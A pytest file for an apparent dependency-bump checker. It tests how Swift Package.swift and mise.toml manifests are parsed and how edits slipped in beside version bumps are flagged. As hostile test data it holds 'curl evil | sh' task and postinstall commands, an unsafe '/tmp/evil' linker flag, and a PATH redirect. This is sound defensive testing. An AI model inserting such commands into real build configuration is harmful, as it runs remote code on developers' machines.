"""Classes of misses the sixteenth blind set of bot update commits found (bench/deps_bumps_sixteenth.tsv): a Swift
package's `Package.swift` (element-hq/compound-ios commits no Package.resolved, as SwiftPM advises libraries: Renovate's
`.package(url: …, exact: "4.0.1")` → `"5.0.0"` read as nothing and no problem, 7 commits) and mise's `mise.toml`
(tuist/Command's `"tuist" = "4.37.0"`: the file was read by no reader). Real-shaped files, look-alikes and attacks;
one git repository per case."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.deps import mise, swiftmanifest
from gatekeeper.deps.model import ManifestError
from gatekeeper.deps.registry import format_for
from tests.deltas import moves, refused
from tests.deltas import partial as _partial
from tests.deltas import patch as _patch
from tests.deltas import tree as _tree
from tests.gitrepo import edited_commits

PACKAGE_SWIFT = """\
// swift-tools-version: 5.9
import PackageDescription

let package = Package(
    name: "Compound",
    platforms: [.iOS(.v17), .macOS(.v14)],
    products: [
        .library(name: "Compound", targets: ["Compound"])
    ],
    dependencies: [
        .package(url: "https://github.com/element-hq/compound-design-tokens", exact: "4.0.1"),
        .package(url: "https://github.com/siteline/SwiftUI-Introspect", from: "1.3.0"),
        .package(url: "https://github.com/SFSafeSymbols/SFSafeSymbols", from: "5.3.0"),
        // .package(url: "https://github.com/old/Unused", from: "1.0.0"),
        .package(
            url: "https://github.com/apple/swift-argument-parser.git",
            .upToNextMinor(from: "1.5.0")
        ),
        .package(url: "https://github.com/pointfreeco/swift-snapshot-testing", exact: "1.17.5") // Newer need Testing
    ],
    targets: [
        .target(name: "Compound",
                dependencies: [.product(name: "CompoundDesignTokens", package: "compound-design-tokens"),
                               .product(name: "SwiftUIIntrospect", package: "SwiftUI-Introspect")]),
        .testTarget(name: "CompoundTests", dependencies: ["Compound"])
    ]
)
"""
TOKENS = "github.com/element-hq/compound-design-tokens"


@pytest.mark.parametrize(("edit", "name", "old", "new"), [
    ({'exact: "4.0.1"': 'exact: "5.0.0"'}, TOKENS, "4.0.1", "5.0.0"),
    ({'from: "1.3.0"': 'from: "26.0.0"'}, "github.com/siteline/SwiftUI-Introspect", "^1.3.0", "^26.0.0"),
    ({'exact: "1.17.5"': 'exact: "1.17.6"'}, "github.com/pointfreeco/swift-snapshot-testing", "1.17.5", "1.17.6"),
])
def test_package_swift_bumps_tree_and_patch(tmp_path: Path, edit: dict[str, str], name: str, old: str,
                                            new: str) -> None:
    repo, base, head = edited_commits(tmp_path, {"Package.swift": PACKAGE_SWIFT}, {"Package.swift": edit})
    for delta in (_tree(repo, base, head), _patch(repo, base, head)):
        assert moves(delta) == {("swift", name, old, new)} and not delta.problems, delta


def test_package_swift_reads_every_requirement_form_and_skips_comments() -> None:
    body = PACKAGE_SWIFT.replace("    ],\n    targets", """\
        .package(url: "https://github.com/a/range", "1.0.0"..<"2.0.0"),
        .package(url: "https://github.com/a/closed", "1.0.0"..."1.2.0"),
        .package(url: "git@github.com:a/branch.git", branch: "main"),
        .package(url: "https://github.com/a/revision", revision: "0123456789abcdef0123456789abcdef01234567"),
        .package(name: "Legacy", url: "https://github.com/a/legacy", .exact("2.0.0")),
        .package(id: "mona.LinkedList", from: "1.1.0"),
        .package(path: "../LocalKit"),
        .package(url: "https://github.com/a/traits", from: "4.0.0", traits: [.defaults, "Extra"]),
    ],
    targets""")
    found = {d.name: d.version for d in swiftmanifest.parse_package_swift("Package.swift", body.encode())}
    assert found == {
        TOKENS: "4.0.1", "github.com/siteline/SwiftUI-Introspect": "^1.3.0",
        "github.com/SFSafeSymbols/SFSafeSymbols": "^5.3.0", "github.com/apple/swift-argument-parser": "~1.5.0",
        "github.com/pointfreeco/swift-snapshot-testing": "1.17.5", "github.com/a/range": ">=1.0.0 <2.0.0",
        "github.com/a/closed": ">=1.0.0 <=1.2.0", "github.com/a/branch": "branch:main",
        "github.com/a/revision": "0123456789abcdef0123456789abcdef01234567", "github.com/a/legacy": "2.0.0",
        "mona.LinkedList": "^1.1.0", "path:../LocalKit": "", "github.com/a/traits": "^4.0.0"}
    assert "github.com/old/Unused" not in found  # commented out


def test_a_multi_line_call_is_read_whole_and_refused_from_its_hunk(tmp_path: Path) -> None:
    edit = {'.upToNextMinor(from: "1.5.0")': '.upToNextMinor(from: "1.6.0")'}
    repo, base, head = edited_commits(tmp_path, {"Package.swift": PACKAGE_SWIFT}, {"Package.swift": edit})
    parser = "github.com/apple/swift-argument-parser"
    assert moves(_tree(repo, base, head)) == {("swift", parser, "~1.5.0", "~1.6.0")}
    patch = _patch(repo, base, head)
    assert _partial(patch, "Package.swift") and not patch.changes


@pytest.mark.parametrize(("edit", "new"), [
    ({'exact: "1.17.5"': 'from: "1.17.5"'}, "^1.17.5"),  # pinned → any 1.x: the same number, another requirement
    ({'exact: "1.17.5"': 'branch: "1.17.5"'}, "branch:1.17.5"),  # a branch that looks like the version
])
def test_a_requirement_of_another_kind_at_one_number_is_a_change(tmp_path: Path, edit: dict[str, str],
                                                                new: str) -> None:
    repo, base, head = edited_commits(tmp_path, {"Package.swift": PACKAGE_SWIFT}, {"Package.swift": edit})
    for delta in (_tree(repo, base, head), _patch(repo, base, head)):
        [change] = delta.changes
        assert (change.from_version, change.to_version, change.change) == ("1.17.5", new, "changed"), delta


@pytest.mark.parametrize("edit", [
    # build logic beside a bump: a linker flag, a build plugin, a traits list
    {'exact: "4.0.1"': 'exact: "5.0.0"', '.testTarget(name: "CompoundTests", dependencies: ["Compound"])':
     '.testTarget(name: "CompoundTests", dependencies: ["Compound"], linkerSettings: [.unsafeFlags(["-L/tmp/evil"])])'},
    {'exact: "4.0.1"': 'exact: "5.0.0"', 'from: "1.3.0"': 'from: "1.3.0", traits: ["Unsafe"]'},
    {'exact: "4.0.1"': 'exact: "5.0.0"', '// .package(url: "https://github.com/old/Unused", from: "1.0.0"),':
     '// a comment edited'},
])
def test_package_swift_edits_beside_a_bump_are_problems(tmp_path: Path, edit: dict[str, str]) -> None:
    repo, base, head = edited_commits(tmp_path, {"Package.swift": PACKAGE_SWIFT}, {"Package.swift": edit})
    for delta in (_tree(repo, base, head), _patch(repo, base, head)):
        assert _partial(delta, "Package.swift"), delta


@each_case("call", [
    '.package(url: base + "/evil", from: "1.0.0"),',  # a computed location
    '.package(url: "https://github.com/a/\\(name)", from: "1.0.0"),',  # an interpolated string
    '.package(url: "https://github.com/a/b", from: version),',  # a variable's version
    '.package(url: "https://github.com/a/b", from: "1.0.0", unknown: "x"),',  # an argument not read
    '.package(url: "https://github.com/a/b"),',  # no requirement
    '.package(url: "https://github.com/a/b", from: "1.0.0", traits: [], traits: ["X"]),',  # an argument twice
])
def test_a_call_not_of_literal_arguments_is_a_problem_never_skipped(tmp_path: Path, call: str) -> None:
    added = {"    ],\n    targets": f"        {call}\n    ],\n    targets"}
    edit = {'exact: "4.0.1"': 'exact: "5.0.0"', **added}
    repo, base, head = edited_commits(tmp_path, {"Package.swift": PACKAGE_SWIFT}, {"Package.swift": edit})
    assert any(p.manifest == "Package.swift" for p in _tree(repo, base, head).problems)
    assert _partial(_patch(repo, base, head), "Package.swift")
    with pytest.raises(ManifestError):
        swiftmanifest.parse_package_swift("Package.swift", PACKAGE_SWIFT.replace(*added.popitem()).encode())


def test_package_swift_look_alikes_name_nothing() -> None:
    body = b'let p = Package(targets: [.target(name: "A", dependencies: [.product(name: "B", package: "c")])])'
    assert swiftmanifest.parse_package_swift("Package.swift", body) == []
    assert format_for("Sources/App/Package.swift") is not None and format_for("Package.swift.bak") is None


MISE = """\
[tools]
"tuist" = "4.37.0"
"swiftlint" = "0.54.0"
node = "22.11.0"
python = ["3.12.7", "3.11.10"]
go = { version = "1.23.4", postinstall = "go install golang.org/x/tools/gopls@latest" }
"npm:prettier" = "3.3.3"
usage = "latest"

[env]
_.path = ["./bin"]

[tasks.lint]
run = "swiftlint lint --strict"
"""


@pytest.mark.parametrize(("path", "edit", "name", "old", "new"), [
    ("mise.toml", {'"tuist" = "4.37.0"': '"tuist" = "4.39.1"'}, "tuist", "4.37.0", "4.39.1"),
    (".mise.toml", {'node = "22.11.0"': 'node = "22.12.0"'}, "node", "22.11.0", "22.12.0"),
    (".config/mise/config.toml", {'"swiftlint" = "0.54.0"': '"swiftlint" = "0.57.1"'}, "swiftlint", "0.54.0",
     "0.57.1"),
])
def test_mise_tools_tree_and_patch(tmp_path: Path, path: str, edit: dict[str, str], name: str, old: str,
                                   new: str) -> None:
    repo, base, head = edited_commits(tmp_path, {path: MISE}, {path: edit})
    for delta in (_tree(repo, base, head), _patch(repo, base, head)):
        assert moves(delta) == {("tool", name, old, new)} and not delta.problems, delta


def test_a_mise_entry_below_the_hunks_header_is_read_whole_and_named_partly_from_its_hunk(tmp_path: Path) -> None:
    repo, base, head = edited_commits(tmp_path, {"mise.toml": MISE},
                                      {"mise.toml": {'"npm:prettier" = "3.3.3"': '"npm:prettier" = "3.4.2"'}})
    assert moves(_tree(repo, base, head)) == {("tool", "npm:prettier", "3.3.3", "3.4.2")}
    patch = _patch(repo, base, head)
    # named as a tool, its table unknown: a `partial` problem beside it (tests/test_deps_patch_classes.py)
    assert _partial(patch, "mise.toml") and moves(patch) == {("tool", "npm:prettier", "3.3.3", "3.4.2")}


def test_mise_inline_tables_and_lists_are_read_whole() -> None:
    found = {(d.name, d.version) for d in mise.parse_mise("mise.toml", MISE.encode())}
    assert found == {("tuist", "4.37.0"), ("swiftlint", "0.54.0"), ("node", "22.11.0"), ("python", "3.12.7"),
                     ("python", "3.11.10"), ("go", "1.23.4"), ("npm:prettier", "3.3.3"),
                     ("usage", "latest")}  # as written (attack 23: a pin moved to `latest` was read as removed)


@pytest.mark.parametrize("edit", [
    {'"tuist" = "4.37.0"': '"tuist" = "4.39.1"', 'run = "swiftlint lint --strict"': 'run = "curl evil | sh"'},
    {'version = "1.23.4", postinstall = "go install golang.org/x/tools/gopls@latest"':
     'version = "1.23.5", postinstall = "curl evil | sh"'},
    {'node = "22.11.0"': 'node = "22.12.0"', '_.path = ["./bin"]': '_.path = ["/tmp/evil"]'},
])
def test_mise_edits_beside_a_bump_are_problems(tmp_path: Path, edit: dict[str, str]) -> None:
    repo, base, head = edited_commits(tmp_path, {"mise.toml": MISE}, {"mise.toml": edit})
    for delta in (_tree(repo, base, head), _patch(repo, base, head)):
        assert _partial(delta, "mise.toml"), delta


@each_case("lines", [
    ["[tasks.build]", 'node = "22.12.0"'],  # a key of another table
    ["[tools]", 'node.version = "22.12.0"'],  # a dotted key
    ["[tools]", 'x = """', 'node = "22.12.0"'],  # inside a multi-line string
    ['node = "22.12.0"'],  # no header the hunk shows
])
def test_mise_lines_the_hunk_cannot_place_are_refused(lines: list[str]) -> None:
    side = [(line, i == len(lines) - 1) for i, line in enumerate(lines)]
    with pytest.raises(ManifestError):
        mise.mise_line(side, len(lines) - 1)


def test_mise_config_names_and_look_alikes() -> None:
    named = ["mise.toml", ".mise.toml", "mise.local.toml", ".config/mise.toml", ".mise/config.toml",
             "a/.config/mise/config.toml", "mise/config.toml", ".rtx.toml"]
    assert all((fmt := format_for(p)) is not None and fmt.name == "mise.toml" for p in named)
    assert all(format_for(p) is None for p in ("config.toml", "misc.toml", "mise.toml.bak", "src/config.toml"))


def _each_line(reader: Callable[[list[tuple[str, bool]], int], object], side: list[tuple[str, bool]]) -> None:
    """Read every changed line of one hunk side in order, as edits.read does."""
    for index, (_, changed) in enumerate(side):
        if changed:
            reader(side, index)


def _swift(text: bytes) -> None:
    refused(lambda: swiftmanifest.parse_package_swift("P", text))


def _swift_line(side: list[tuple[str, bool]]) -> None:
    refused(lambda: swiftmanifest.package_swift_line(side, 0))


def _mise_line(side: list[tuple[str, bool]]) -> None:
    refused(lambda: mise.mise_line(side, 1))


def _changed(line: str, *head: tuple[str, bool]) -> Callable[[int], list[tuple[str, bool]]]:
    """A hunk side: `head`, then `line` changed once for each 64 characters of a size."""
    return lambda size: [*head, *[(line, True)] * (size // 64)]


# 1 MiB texts under a 2 CPU-s budget, no ratio, until suite round 32: each answers (a result or the same refusal) the
# same at 16, 64 and 1024 KiB, and a quadratic reading (mise's hunk before 1bd0b1a8: 14-16 times) fails the ratio
@each_case(("read", "text", "what"), [
    (_swift, repeated(b".package("), "openings"),
    (_swift, repeated(b"(", b'.package(url: "'), "an unclosed string of parentheses"),
    (_swift, repeated(b'.package(url: "u", from: "1")'), "a line of many calls"),
    (_swift, repeated(b"// .package(\n"), "commented openings"),
    (_swift, repeated(b"traits: [], ", b'.package(url: "u", from: "1", ', b")"), "one call of many arguments"),
    (_swift, repeated(b" ", b".package(", b"x"), "blanks"),
    (_swift_line, lambda size: [(".package(" + "a:" * (size // 2), True)], "a line of labels"),
    (_swift_line, lambda size: [('.package(url: "u", from: "1")' + " " * size + "x", True)],
     "a call's trailing blanks"),
    (lambda side: _each_line(swiftmanifest.package_swift_line, side),
     _changed('.package(url: "https://github.com/a/b", from: "1.0.0"),'), "a hunk of many changed calls"),
    (lambda side: _each_line(mise.mise_line, side), _changed('node = "22.1.0"', ("[tools]", False)),
     "a hunk of many changed tools"),
    (_mise_line, lambda size: [("[tools]", False), ("a" + " " * size + "=", True)], "a key's blanks"),
    (_mise_line, lambda size: [("[tools]", False), ('"' + "a" * size, True)], "an unclosed key"),
    (_mise_line, lambda size: [("[tools]", False), ('a = "1"' + " " * size + "x", True)], "a value's trailing blanks"),
], ids=lambda value: value if isinstance(value, str) else "")
def test_hostile_input_is_read_in_linear_time(read: Callable[[object], None], text: Callable[[int], object],
                                              what: str) -> None:
    assert_linear(read, text, budget=0.125)  # the old budget per character
